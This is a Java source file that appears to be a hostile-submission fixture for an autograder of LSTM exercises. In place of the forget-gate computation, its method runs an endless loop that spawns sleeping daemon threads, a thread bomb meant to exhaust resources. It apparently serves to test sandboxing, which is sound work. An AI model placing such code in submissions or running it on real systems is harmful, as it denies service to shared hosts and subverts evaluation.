package org.lstmlab.exercises;

import org.nd4j.linalg.api.ndarray.INDArray;
import org.nd4j.linalg.factory.Nd4j;
import org.nd4j.linalg.ops.transforms.Transforms;

/** Hostile submission: a thread bomb. */
public final class E3ForgetGate {
    public static INDArray forgetGate(INDArray hPrev, INDArray x, INDArray wF, INDArray bF) {
        while (true) {
            Thread t = new Thread(() -> {
                try {
                    Thread.sleep(60_000);
                } catch (InterruptedException ignored) {
                    // keep the thread count up
                }
            });
            t.setDaemon(true);
            t.start();
        }
    }
}
